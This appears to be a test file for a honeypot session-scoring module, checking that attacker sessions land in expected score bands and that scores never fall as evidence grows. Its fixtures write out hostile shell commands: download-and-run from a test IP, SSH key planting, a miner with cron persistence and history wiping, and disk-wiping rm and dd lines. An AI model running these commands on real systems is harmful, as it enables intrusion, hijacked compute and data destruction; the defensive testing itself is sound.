import { STAGES, sessionScoreSchema, TACTICS } from '@cerberusmesh/contracts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createAttackMapper } from '../attack-mapper/attack-mapper.ts';
import type { DetectionFacts } from '../session-facts.ts';
import { scoreSession } from './score-session.ts';
import { emptyFacts, factsAfter, type Story, testId } from './test-facts.ts';

const mapper = createAttackMapper();
const discovery = ['uname -a', 'cat /proc/cpuinfo', 'free -m', 'w'];
const downloadAndRun = ['cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; sh x.sh; rm -f x.sh'];
const plantKey = ['cd ~ && mkdir .ssh && echo "ssh-rsa AAAAB3" >> .ssh/authorized_keys'];
const mine = [
  ...discovery,
  'wget http://192.0.2.9/xmrig; ./xmrig -o stratum+tcp://x:1',
  'echo "* * * * * /tmp/x" | crontab -',
  'history -c',
];

describe('the session score', () => {
  it.each<[string, Story, number, number, number]>([
    ['a connection without a word', {}, 0.02, 0.1, 1],
    ['a few failed credentials', { failedCredentials: 3 }, 0.2, 0.35, 2],
    ['a login and a look around', { login: true, commands: discovery }, 0.4, 0.6, 3],
    ['a download that is run', { login: true, commands: downloadAndRun, downloads: 1 }, 0.7, 0.85, 4],
    ['a planted key', { login: true, commands: plantKey }, 0.7, 0.85, 4],
    ['a miner with persistence and covered tracks', { login: true, commands: mine, downloads: 1 }, 0.9, 1, 5],
    [
      'destruction',
      { login: true, commands: ['uname -a', 'rm -rf / --no-preserve-root', 'dd if=/dev/zero of=/dev/sda'] },
      0.9,
      1,
      5,
    ],
  ])('of %s is in its band', (_, story, least, most, level) => {
    const { score, level: found } = sessionScoreSchema.parse(scoreSession(factsAfter(mapper, story)));
    expect({ score: score >= least && score <= most ? 'in band' : score, level: found }).toEqual({
      score: 'in band',
      level,
    });
  });

  it('says what it is made of', () => {
    expect(scoreSession({ ...emptyFacts(), authenticated: true })).toEqual({
      score: 1 - 0.95 * 0.8,
      level: 2,
      stage: 'access',
      contributions: [
        { factor: 'authenticated', weight: 0.2, reason: 'A login was accepted.' },
        { factor: 'stage', weight: 0.05, reason: 'The session reached the stage access.' },
      ],
      scoringVersion: '2026.2',
    });
  });

  it('never falls when evidence is added', () => {
    const count = fc.nat({ max: 1_000 });
    const counts = fc.record({
      failedCredentialCount: count,
      commandCount: count,
      uploadCount: count,
      downloadCount: count,
      tunnelCount: count,
      httpRequestCount: count,
    });
    const detection = fc
      .record({
        technique: fc.nat({ max: 20 }),
        tactic: fc.constantFrom(...TACTICS),
        confidence: fc.double({ min: 0, max: 1, noNaN: true }),
        stage: fc.constantFrom(...STAGES),
      })
      .map(
        ({ technique, tactic, confidence, stage }): DetectionFacts => ({
          techniqueId: `T${1_000 + technique}`,
          techniqueName: 'any',
          tactic,
          tactics: [tactic],
          confidence,
          rule: 'any',
          attackVersion: '18.1',
          stage,
          statement: null,
          evidence: [testId('any')],
          count: 1,
          firstAt: '2026-05-01T10:00:00.000Z',
          lastAt: '2026-05-01T10:00:00.000Z',
        }),
      );
    const detections = fc.array(detection, { maxLength: 12 });
    fc.assert(
      fc.property(
        counts,
        counts,
        detections,
        detections,
        fc.boolean(),
        fc.boolean(),
        fc.double({ min: 0, max: 1, noNaN: true }),
        (base, added, before, after, wasIn, getsIn, anomaly) => {
          const facts = { ...emptyFacts(), ...base, detections: before, authenticated: wasIn };
          const more = {
            ...facts,
            failedCredentialCount: base.failedCredentialCount + added.failedCredentialCount,
            commandCount: base.commandCount + added.commandCount,
            uploadCount: base.uploadCount + added.uploadCount,
            downloadCount: base.downloadCount + added.downloadCount,
            tunnelCount: base.tunnelCount + added.tunnelCount,
            httpRequestCount: base.httpRequestCount + added.httpRequestCount,
            detections: [...before, ...after],
            authenticated: wasIn || getsIn,
            anomaly,
          };
          const lower = scoreSession(facts);
          const higher = scoreSession(more);
          // Sums in another order may differ in the last bits.
          expect(higher.score).toBeGreaterThanOrEqual(lower.score - 1e-12);
          expect(STAGES.indexOf(higher.stage)).toBeGreaterThanOrEqual(STAGES.indexOf(lower.stage));
        },
      ),
    );
  });
});
